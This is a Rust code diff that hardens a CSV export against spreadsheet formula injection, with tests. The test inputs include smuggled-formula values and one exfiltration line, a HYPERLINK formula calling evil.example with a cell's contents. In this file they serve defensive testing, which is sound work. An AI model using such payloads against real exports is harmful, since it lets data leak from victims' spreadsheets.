@@ -5,6 +5,7 @@
 
 use std::fmt::Write as _;
 
+use crate::diagnostic::is_hidden;
 use crate::document::export::{DataCell, DataColumn, DataRow, DataTable};
 
 /// Version of the JSON form. A field renamed or removed raises it.
@@ -14,7 +15,7 @@ pub const SCHEMA: u32 = 1;
 ///
 /// It begins with a byte order mark, without which spreadsheets read å, ä and ö as something else. A blank cell is empty;
 /// where a table has any, a last column `blank` says which and why (`women: suppressed`), so that a number column holds
-/// nothing but numbers. The column `origin` says how each row came about. Texts that a spreadsheet would run as a formula get an apostrophe before them; numbers never do.
+/// nothing but numbers. The column `origin` says how each row came about. No text is a formula to a spreadsheet (see [`harmless`]); numbers are written as they are.
 #[must_use]
 pub fn csv(table: &DataTable) -> String {
     let blanks: Vec<String> = table.rows.iter().map(|row| blanks(table, row)).collect();
@@ -133,9 +134,42 @@ fn column_name(column: &DataColumn) -> String {
     }
 }
 
-/// The text with an apostrophe before it when a spreadsheet would take it for a formula.
+/// The text as a cell that no spreadsheet takes for a formula, whichever separator it splits lines at.
+///
+/// In front of a cell that would begin a formula an apostrophe is put, as OWASP recommends. Where lists are separated by semicolons, as in
+/// Sweden, a spreadsheet splits at those within a cell too, and heeds quotes only where a cell begins: a semicolon before what would begin
+/// a formula is written as U+037E, which Unicode defines as the same character and which no program splits at; tabs and ends of lines
+/// become spaces. A reader sees what the report says.
 fn harmless(text: &str) -> String {
-    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_owned() }
+    let mut out = String::with_capacity(text.len() + 1);
+    for (at, c) in text.char_indices() {
+        let rest = || text[at + c.len_utf8()..].trim_start_matches(['"', '\'', '“', '”', '‘', '’', ' ', '\u{a0}']);
+        out.push(match c {
+            ';' if begins_formula(rest()) => '\u{37e}',
+            '\t' | '\n' | '\r' if begins_formula(rest()) => ' ',
+            c => c,
+        });
+    }
+    let unsafe_start = begins_formula(&out) && !is_plain_number(&out) || out.starts_with(['\t', '\r', '\n']);
+    if unsafe_start { format!("'{out}") } else { out }
+}
+
+/// Whether a cell that begins so is a formula to a spreadsheet; full-width signs are to some. Spaces and hidden characters may be taken away
+/// before it looks.
+fn begins_formula(text: &str) -> bool {
+    let signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
+    text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_hidden(c)).starts_with(signs)
+}
+
+/// `-12.5`, `+3`, `-1,5 %`: what a spreadsheet takes for a number and nothing more.
+fn is_plain_number(text: &str) -> bool {
+    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
+    let bare = text.trim_end_matches('%').trim_end_matches([' ', '\u{a0}']);
+    let bare = bare.strip_prefix(['-', '+']).unwrap_or(bare);
+    match bare.split_once(['.', ',']) {
+        Some((whole, part)) => digits(whole) && digits(part),
+        None => digits(bare),
+    }
 }
 
 #[cfg(test)]
@@ -194,6 +228,86 @@ mod tests {
             '@GAD,,0,,women: suppressed; when: not-available,\"data/a.csv, rad 3\"\r\n\
             Totalt,1 234,99999999999999999999.10,–,,\"data/a.csv, rad 5\"\r\n";
         assert_eq!(csv(&table()), expected);
+    }
+
+    /// Lines as a spreadsheet splits them that heeds quotes only where a cell begins.
+    fn split(text: &str, separator: char) -> Vec<String> {
+        let mut cells = vec![String::new()];
+        let (mut quoted, mut fresh) = (false, true);
+        let mut rest = text.trim_start_matches('\u{feff}').chars().peekable();
+        while let Some(c) = rest.next() {
+            if quoted && c == '"' && rest.peek() == Some(&'"') {
+                rest.next();
+                cells.last_mut().unwrap().push('"');
+            } else if c == '"' && (quoted || fresh) {
+                quoted = !quoted;
+            } else if !quoted && (c == separator || c == '\n' || c == '\r') {
+                cells.push(String::new());
+                fresh = true;
+                continue;
+            } else {
+                cells.last_mut().unwrap().push(c);
+            }
+            fresh = false;
+        }
+        cells
+    }
+
+    #[test]
+    fn no_cell_is_a_formula_at_whatever_a_spreadsheet_splits() {
+        let texts = [
+            "=1+1",
+            "+1+1",
+            "-1+1",
+            "@SUM(1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "＝1+1",
+            "－1+1",
+            " =1",
+            "\u{a0}=1",
+            "\u{200b}=1",
+            "\u{feff}@x",
+            "Norr;=HYPERLINK(\"https://evil.example/?\"&B2)",
+            "x\t=1+1",
+            "a;b;-2+3;@SUM(1)",
+            "a;\"=1+1",
+            "a; \"\"=1",
+            "a;;=1",
+            "a\n=1",
+            "a\r\n\"+1",
+            "a;＋1",
+            "\"=1+1",
+            "a;'=1",
+            "=1;=2",
+            "a\u{37e}=1",
+        ];
+        for text in texts {
+            // In every column, since a spreadsheet heeds quotes otherwise in the first.
+            let mut table = table();
+            table.stub = text.into();
+            table.columns[1].label = text.into();
+            table.rows[0].label = text.into();
+            table.rows[1].cells[2] = DataCell::Text(text.into());
+            table.rows[2].origin = text.into();
+            let csv = csv(&table);
+            for separator in [',', ';', '\t'] {
+                for cell in split(&csv, separator) {
+                    let bare = cell.trim_start_matches(|c: char| c.is_whitespace() || is_hidden(c));
+                    let formula = bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
+                    assert!(!formula || cell == "-12.50", "{text:?} becomes {cell:?} where {separator:?} splits");
+                }
+            }
+            let label: String = split(&csv, ',').into_iter().nth(7).unwrap();
+            let seen = label.trim_start_matches('\'').replace('\u{37e}', ";").replace(['\t', '\n', '\r'], " ");
+            assert_eq!(seen, text.replace('\u{37e}', ";").replace(['\t', '\n', '\r'], " "), "a reader sees the same");
+            let json: serde_json::Value = serde_json::from_str(&json(&table)).unwrap();
+            assert_eq!(json["rows"][0]["label"], text, "JSON needs no guard");
+        }
+        for kept in ["-5", "+5", "-12.5", "-1,5 %", "a;b", "1;2", "plus + minus", "Norr (=alla)", "–", "Bo-Ek"] {
+            assert_eq!(harmless(kept), kept);
+        }
     }
 
     #[test]
